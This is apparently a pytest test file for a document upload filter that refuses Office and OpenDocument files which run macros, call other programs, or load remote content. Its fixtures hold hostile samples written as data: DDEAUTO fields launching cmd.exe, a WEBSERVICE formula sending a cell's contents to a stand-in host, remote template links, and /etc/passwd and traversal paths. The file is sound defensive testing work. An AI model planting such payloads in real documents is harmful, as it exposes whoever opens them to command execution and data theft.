"""Office documents that would run or load something when opened are refused, with advice."""

import zlib
from html import escape, unescape
from io import BytesIO
from zipfile import ZIP_STORED, ZipFile

import pytest

from files.documents import markup, office
from files.documents.identification import FORMATS, content_type_of
from files.rejection import FileRejected
from tests.factories.files import file_of
from tests.factories.packages import (
    MAIN,
    OFFICE,
    OOXML,
    WORD,
    archive,
    content_types,
    office_parts,
    opendocument,
    opendocument_parts,
    related,
    relationships,
)

NAMESPACES = (
    f'xmlns:office="{OFFICE}" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)
AGAIN = "then try again."
MACROS = "This document contains macros: save it without them, or as PDF, then try again."
ELSEWHERE = (
    "This document loads a template, a picture or a linked file from another place when it is opened: insert it into"
    f" the document, break the link, or save the document as PDF, {AGAIN}"
)
DATA = (
    "This document asks another program for data when it is opened: replace the link with its result, or save the"
    f" document as PDF, {AGAIN}"
)
FIELD = (
    "This document has a field that loads something when it is opened: replace the field with its result (in Word,"
    f" select it and press Ctrl+Shift+F9), or save the document as PDF, {AGAIN}"
)
INSERTED = (
    "This document inserts another file into itself when it is opened: open it, save it again as DOCX or as PDF,"
    f" {AGAIN}"
)
UNKNOWN = (
    f"This document holds another file that cannot be checked: remove that file, or save the document as PDF, {AGAIN}"
)
TOO_MUCH = "This document has too many parts, or is too large once unpacked: save it again, or as PDF, then try again."


def result_of(data: bytes, ending: str) -> str:
    """Return the content type of a document that is accepted, else the reason why it is refused."""
    with file_of(data) as file:
        try:
            return content_type_of(file, ending)
        except FileRejected as error:
            return str(error)


def accepted_as(ending: str) -> str:
    return FORMATS[ending].content_type


def content(body: str, root: str = "document-content") -> str:
    return f"<office:{root} {NAMESPACES}><office:body>{body}</office:body></office:{root}>"


def odt(body: str) -> bytes:
    return archive(opendocument_parts("text") | {"content.xml": content(body)})


def ods(body: str) -> bytes:
    return archive(opendocument_parts("spreadsheet") | {"content.xml": content(body)})


def odt_with(name: str, body: str = "x") -> bytes:
    return archive(opendocument_parts("text") | {name: body})


IMAGE = '<draw:image xlink:href="{}"/>'
AWAY = [
    "http://elsewhere.example/track.png",
    "//elsewhere.example/x.png",
    "file:///etc/passwd",
    "/etc/passwd",
    "../x.png",
    "Pictures/../../x.png",
    "..%2Fx.png",
    "\\\\elsewhere\\x.png",
    " https://elsewhere.example/x.png",
    "http://[::",
]


@pytest.mark.parametrize("address", AWAY)
def test_opendocument_file_with_a_remote_picture_is_refused(address: str):
    assert result_of(odt(IMAGE.format(address)), "odt") == ELSEWHERE


@pytest.mark.parametrize(
    "body",
    [
        '<text:section><text:section-source xlink:href="file://elsewhere.example/x.odt"/></text:section>',
        '<table:table><table:table-source xlink:href="http://elsewhere.example/x.csv"/></table:table>',
        '<draw:object xlink:href="http://elsewhere.example/x"/>',
        '<draw:floating-frame xlink:href="https://elsewhere.example/"/>',
    ],
)
def test_opendocument_file_that_includes_remote_content_is_refused(body: str):
    assert (result_of(odt(body), "odt"), result_of(ods(body), "ods")) == (ELSEWHERE, ELSEWHERE)


@pytest.mark.parametrize(
    "part",
    ["styles.xml", "settings.xml", "Object 1/content.xml", "Object 1/styles.xml", "Object 1/Object 2/Styles.xml"],
)
def test_styles_settings_and_sub_objects_are_checked_too(part: str):
    remote = content('<style:background-image xlink:href="http://elsewhere.example/bg.png"/>', "document-styles")
    assert result_of(odt_with(part, remote), "odt") == ELSEWHERE


def test_template_of_a_sub_object_is_checked_too():
    meta = (
        '<m:template xmlns:m="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
        ' x:href="http://elsewhere.example/t.ott"/>'
    )
    assert result_of(odt_with("Object 1/meta.xml", meta), "odt") == ELSEWHERE


@pytest.mark.parametrize(
    "body",
    [
        '<office:event-listeners><script:event-listener script:event-name="dom:load"'
        ' xlink:href="vnd.sun.star.script:a$b?location=share"/></office:event-listeners>',
        '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
        '<text:script script:language="JavaScript">x</text:script>',
        '<text:execute-macro text:name="x"/>',
        '<text:a xlink:href="vnd.sun.star.script:a$b?location=share">x</text:a>',
        '<text:a xlink:href=" MACRO:///Standard.Module1.Main">x</text:a>',
    ],
)
def test_an_opendocument_file_that_runs_scripts_is_refused(body: str):
    assert result_of(odt(body), "odt") == MACROS


@pytest.mark.parametrize(
    "name",
    ["Object 1/Basic/Standard/Module1.xml", "Object 1/Scripts/python/a.py", "Dialogs/dialog-lc.xml", "a/DIALOGS/x.xml"],
)
def test_script_folders_are_found_in_archive_and_manifest(name: str):
    assert result_of(odt_with(name), "odt") == MACROS
    assert result_of(opendocument("text", name), "odt") == MACROS


@pytest.mark.parametrize(
    "body",
    [
        "<table:dde-links><table:dde-link/></table:dde-links>",
        '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>',
        "<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>",
        '<table:table-cell table:formula="of:=1+dde (&quot;cmd&quot;;&quot;/c calc&quot;)"/>',
        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://elsewhere.example/&quot;)"/>',
        '<table:named-expression table:expression="of:=WEBSERVICE(&quot;http://elsewhere.example/&quot;)"/>',
        '<table:content-validation table:condition="of:cell-content()=webservice(&quot;x&quot;)"/>',
    ],
)
def test_an_opendocument_file_that_asks_other_programs_for_data_is_refused(body: str):
    assert result_of(ods(body), "ods") == DATA


def test_common_opendocument_content_is_accepted():
    body = (
        "<office:scripts/><table:dde-links/>"
        '<text:a xlink:href="https://lab.example/">x</text:a><draw:a xlink:href="../plan.odt">x</draw:a>'
        '<draw:image xlink:href="Pictures/1.png"/><draw:image xlink:href="./Pictures/2.png"/>'
        '<draw:image xlink:href="#"/><draw:image xlink:href=""/><draw:object xlink:href="./Object 1"/>'
        '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/>'
        '<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>'
    )
    inner = content('<draw:image xlink:href="../Pictures/1.png"/>')
    parts = opendocument_parts("text") | {"content.xml": content(body), "Object 1/content.xml": inner}
    parts["Pictures/1.png"] = "x"
    assert result_of(archive(parts), "odt") == accepted_as("odt")


# --- Office Open XML -------------------------------------------------------------------------------------------------


def docx(body: str) -> bytes:
    return archive(office_parts() | {"word/document.xml": word(body)})


def word(body: str) -> str:
    return f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'


def simple(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}"/>'


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instr(*pieces: str, name: str = "instrText") -> str:
    return "".join(f"<w:r><w:{name}>{piece}</w:{name}></w:r>" for piece in pieces)


def field(*pieces: str) -> str:
    return f"{mark('begin')}{instr(*pieces)}{mark('separate')}<w:r><w:t>result</w:t></w:r>{mark('end')}"


LOADING_FIELDS = [
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
    "DDE x y",
    " includepicture &quot;http://elsewhere.example/x.png&quot; \\d",
    "INCLUDETEXT &quot;\\\\\\\\elsewhere\\\\x.docx&quot;",
    "LINK Excel.Sheet.12 &quot;x.xlsx&quot;",
    "DATABASE \\d x",
]


@pytest.mark.parametrize("instruction", LOADING_FIELDS)
def test_a_field_that_loads_something_is_refused(instruction: str):
    ways = [
        simple(instruction),
        field(instruction),
        field(*map(escape, unescape(instruction))),
        mark("begin") + instr(instruction),
    ]
    ways += [instr(instruction), mark("begin") + instr(instruction, name="delInstrText") + mark("end")]
    assert [result_of(docx(way), "docx") for way in ways] == [FIELD] * 6


def test_hidden_or_nested_field_is_refused():
    inside = f"{mark('begin')}{instr('TOC')}{mark('separate')}{field('DDEAUTO x')}{mark('end')}"
    assert [result_of(docx(body), "docx") for body in (field(" " * 300, "DDE x"), inside)] == [FIELD, FIELD]


def test_field_with_a_computed_name_is_refused():
    computed = f"{mark('begin')}{field('QUOTE 68 68 69')}{instr(' x y')}{mark('end')}"
    assert result_of(docx(computed), "docx") == FIELD


@pytest.mark.parametrize(
    "kinds",
    [
        {"word__any_bin": f"{OOXML}wordprocessingml.header+xml"},
        {"word__any_bin": "application/xml"},
    ],
)
def test_fields_are_found_in_parts_by_content_type_or_relationship(kinds: dict[str, str]):
    parts = office_parts() | {"word/any.bin": word(simple("DDEAUTO x"))}
    parts["[Content_Types].xml"] = content_types(word__document_xml=f"{OOXML}{MAIN['docx'][1]}", **kinds)
    parts["word/_rels/document.xml.rels"] = relationships(("header", "any.bin"))
    assert result_of(archive(parts), "docx") == FIELD


def test_fields_that_load_nothing_are_accepted():
    nested = f"{mark('begin')}{instr('IF ')}{field('MERGEFIELD a')}{instr(' = 1 b c')}{mark('separate')}{mark('end')}"
    kinds = ("PAGE", "TOC \\o", "HYPERLINK &quot;https://lab.example/&quot;", "REF LINKED")
    body = nested + "".join(simple(kind) + field(kind) for kind in kinds) + "<w:p><w:r><w:t>DDE</w:t></w:r></w:p>"
    assert result_of(docx(body), "docx") == accepted_as("docx")


def test_a_document_that_inserts_another_file_is_refused():
    assert result_of(related("docx", ("aFChunk", "afchunk.mht")), "docx") == INSERTED


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("externalLink", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
        ("connections", '<connections><connection refreshOnLoad="1"/></connections>'),
    ],
)
def test_a_workbook_that_asks_other_programs_for_data_is_refused(kind: str, body: str):
    parts = office_parts("xlsx") | {"xl/_rels/workbook.xml.rels": relationships((kind, "a/x.xml"))}
    assert result_of(archive(parts | {"xl/a/x.xml": body}), "xlsx") == DATA
    assert result_of(archive(parts | {"xl/a/x.xml": "<connections/>"}), "xlsx") == accepted_as("xlsx")


WORKBOOK = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FETCHING_FUNCTIONS = [
    '_xlfn.WEBSERVICE("http://elsewhere.example/?"&amp;A1)',
    '1+web&#83;ervice ("http://elsewhere.example/")',
    '_xlfn.IMAGE("http://elsewhere.example/x.png")',
    'RTD("server",,"topic")',
]
SHEET = f"{OOXML}spreadsheetml.worksheet+xml"


def sheet(formula: str) -> str:
    return f'<worksheet xmlns="{WORKBOOK}"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'


def xlsx(name: str, part: str, *, kind: str = "worksheet", content_type: str = "") -> bytes:
    """Return a workbook with one more part, known by its relationship, its content type, or both."""
    main = {"xl__workbook_xml": f"{OOXML}{MAIN['xlsx'][1]}"}
    more = {f"xl__{name.replace('.', '_')}": content_type} if content_type else {}
    parts = office_parts("xlsx") | {f"xl/{name}": part, "[Content_Types].xml": content_types(**main, **more)}
    return archive(parts | {"xl/_rels/workbook.xml.rels": relationships((kind, name))})


@pytest.mark.parametrize("formula", FETCHING_FUNCTIONS)
def test_a_workbook_whose_formula_fetches_something_is_refused(formula: str):
    names = f'<workbook xmlns="{WORKBOOK}"><definedNames><definedName>{formula}</definedName></definedNames></workbook>'
    validation = f'<worksheet xmlns="{WORKBOOK}"><formula1>{formula}</formula1></worksheet>'
    ways = [
        xlsx("any.xml", sheet(formula)),
        xlsx("any.xml", sheet(formula), kind="other", content_type=SHEET),
        xlsx("any.xml", validation),
        archive(office_parts("xlsx") | {"xl/workbook.xml": names}),
    ]
    assert [result_of(way, "xlsx") for way in ways] == [DATA] * 4
    inner = f"A file inside this document is not accepted. {DATA}"
    assert result_of(holding(ways[0], "word/embeddings/x.xlsx"), "docx") == inner


def test_formulas_that_fetch_nothing_are_accepted():
    """Words in a text are no function, and neither is a name that only ends like one."""
    for formula in ("SUM(A1:A2)", '"see image (1)"', "MYRTD(A1)", 'HYPERLINK("https://lab.example/")'):
        assert result_of(xlsx("any.xml", sheet(formula), content_type=SHEET), "xlsx") == accepted_as("xlsx")


# --- objects of other programs ---------------------------------------------------------------------------------------

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"x" * 100


@pytest.mark.parametrize("name", ["word/embeddings/oleObject1.bin", "word/media/image1.png"])
def test_an_ole_object_is_refused_whatever_its_name(name: str):
    assert result_of(archive(office_parts() | {name: OLE}), "docx") == UNKNOWN
    assert result_of(archive(opendocument_parts("text") | {"Object 1": OLE}), "odt") == UNKNOWN
    inner = archive(office_parts("xlsx") | {name: OLE})
    assert result_of(holding(inner), "docx") == f"A file inside this document is not accepted. {UNKNOWN}"


def test_embedded_object_is_refused_whatever_its_format():
    native = archive(office_parts() | {"word/embeddings/x.bin": "x"})
    assert result_of(native, "docx") == accepted_as("docx")
    parts = office_parts() | {"word/embeddings/x.bin": "x"}
    parts["word/_rels/document.xml.rels"] = relationships(("oleObject", "embeddings/x.bin"))
    assert result_of(archive(parts), "docx") == UNKNOWN
    typed = content_types(word__document_xml=f"{OOXML}{MAIN['docx'][1]}", word__embeddings__x_bin=f"{OOXML}oleObject")
    assert result_of(
        archive(office_parts() | {"[Content_Types].xml": typed, "word/embeddings/x.bin": "x"}), "docx"
    ) == (UNKNOWN)


def test_embedded_object_in_an_opendocument_file_is_refused():
    bodies = ['<draw:object-ole xlink:href="./Object 1"/>', "<draw:object-ole><office:binary-data/></draw:object-ole>"]
    assert [result_of(odt(body), "odt") for body in bodies] == [UNKNOWN, UNKNOWN]


# --- documents inside a document -------------------------------------------------------------------------------------

TEMPLATE = related("docx", ("attachedTemplate", "http://elsewhere.example/x.dotm", "External"))
INNER = {
    "a template from elsewhere": (TEMPLATE, ELSEWHERE),
    "macros": (related("xlsx", ("vbaProject", "any.bin")), MACROS),
    "a field": (docx(simple("DDEAUTO x")), FIELD),
    "a picture from elsewhere": (odt(IMAGE.format("http://elsewhere.example/x.png")), ELSEWHERE),
}


def holding(data: bytes, name: str = "word/embeddings/x.docx") -> bytes:
    return archive(office_parts() | {name: data})


@pytest.mark.parametrize("what", INNER)
@pytest.mark.parametrize("name", ["word/embeddings/x.docx", "word/media/image1.png"])
def test_document_inside_a_document_is_checked_whatever_its_name(what: str, name: str):
    data, reason = INNER[what]
    refusal = f"A file inside this document is not accepted. {reason}"
    assert result_of(holding(data, name), "docx") == refusal
    assert result_of(archive(opendocument_parts("text") | {"Object 1": data}), "odt") == refusal


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(archive({"a.txt": "x"}), id="an archive of another kind"),
        pytest.param(b"MZ" + TEMPLATE, id="something before the archive"),
        pytest.param(TEMPLATE[:-30], id="cut off"),
        pytest.param(holding(archive(office_parts())), id="a document in a document in a document"),
    ],
)
def test_unknown_file_inside_a_document_is_refused(data: bytes):
    assert result_of(holding(data), "docx") == UNKNOWN


@pytest.mark.parametrize("ending", ["docx", "xlsx", "pptx"])
def test_valid_document_inside_a_document_is_accepted(ending: str):
    assert result_of(holding(archive(office_parts(ending)), f"word/embeddings/x.{ending}"), "docx") == accepted_as(
        "docx"
    )


def test_archive_after_empty_compression_blocks_is_found():
    """The part unpacks to nothing for longer than one chunk."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = b"\x00\x00\x00\xff\xff" * 20_000 + packer.compress(TEMPLATE) + packer.flush()
    assert result_of(with_packed_part(packed, TEMPLATE), "docx") == (
        f"A file inside this document is not accepted. {ELSEWHERE}"
    )


def with_packed_part(packed: bytes, unpacked: bytes) -> bytes:
    """Return a document with a part whose compressed bytes are given."""
    out = BytesIO()
    with ZipFile(out, "w") as made:
        for name, part in office_parts().items():
            made.writestr(name, part)
        made.writestr("word/media/1.png", packed, ZIP_STORED)
    data = bytearray(out.getvalue())
    local = data.find(b"word/media/1.png") - 30
    central = data.rfind(b"PK\x01\x02")
    for start, method in ((local, 8), (central, 10)):
        data[start + method : start + method + 2] = (8).to_bytes(2, "little")
        sums = start + method + 6
        data[sums : sums + 4] = zlib.crc32(unpacked).to_bytes(4, "little")
        data[sums + 8 : sums + 12] = len(unpacked).to_bytes(4, "little")
    return bytes(data)


@pytest.mark.parametrize(("more", "fine"), [(0, True), (-1, False)])
def test_size_of_inner_documents_is_limited(more: int, fine: bool, monkeypatch: pytest.MonkeyPatch):
    inner = archive(office_parts("xlsx"))
    monkeypatch.setattr(office, "MAX_INNER_BYTES", 2 * len(inner) + more)
    data = archive(office_parts() | {"a.xlsx": inner, "b.xlsx": inner})
    assert result_of(data, "docx") == (accepted_as("docx") if fine else TOO_MUCH)


@pytest.mark.parametrize(("more", "fine"), [(0, True), (-1, False)])
def test_unpacked_size_of_inner_documents_is_limited(more: int, fine: bool, monkeypatch: pytest.MonkeyPatch):
    parts = office_parts("xlsx")
    monkeypatch.setattr(office, "MAX_UNPACKED_BYTES", 2 * sum(map(len, parts.values())) + more)
    data = archive(office_parts() | {"a.xlsx": archive(parts), "b.xlsx": archive(parts)})
    assert result_of(data, "docx") == (accepted_as("docx") if fine else TOO_MUCH)


# --- limits ----------------------------------------------------------------------------------------------------------


MANY = {  # documents, and how many of their elements are read
    "one part": (odt("<text:p/>" * 18), "odt", 24),
    "two parts": (odt_with("Object 1/content.xml", content("<text:p/>" * 15)), "odt", 23),
    "a document inside": (
        archive(opendocument_parts("text") | {"Object 1": odt("<text:p/>" * 12)}),
        "odt",
        23,
    ),
    "a word-processing document": (docx("<w:p/>" * 14), "docx", 23),
}


@pytest.mark.parametrize("more", [0, -1])
@pytest.mark.parametrize("what", MANY)
def test_number_of_elements_is_limited(what: str, more: int, monkeypatch: pytest.MonkeyPatch):
    data, ending, count = MANY[what]
    monkeypatch.setattr(markup, "MAX_ELEMENTS", count + more)
    assert result_of(data, ending) == (TOO_MUCH if more else accepted_as(ending))


@pytest.mark.parametrize(("deep", "fine"), [(248, True), (249, False)])
def test_depth_of_content_is_limited(deep: int, fine: bool):
    result = result_of(odt("<text:p>" * deep + "</text:p>" * deep), "odt")
    assert result.startswith("The content does not match the ending of the file name (ODT)") != fine
    assert (result == accepted_as("odt")) == fine


def test_too_long_tag_is_refused():
    assert result_of(odt(f'<text:p text:id="{"x" * 1_000_000}"/>'), "odt") == accepted_as("odt")
    assert result_of(odt(f'<text:p text:id="{"x" * 6_000_000}"/>'), "odt") == TOO_MUCH
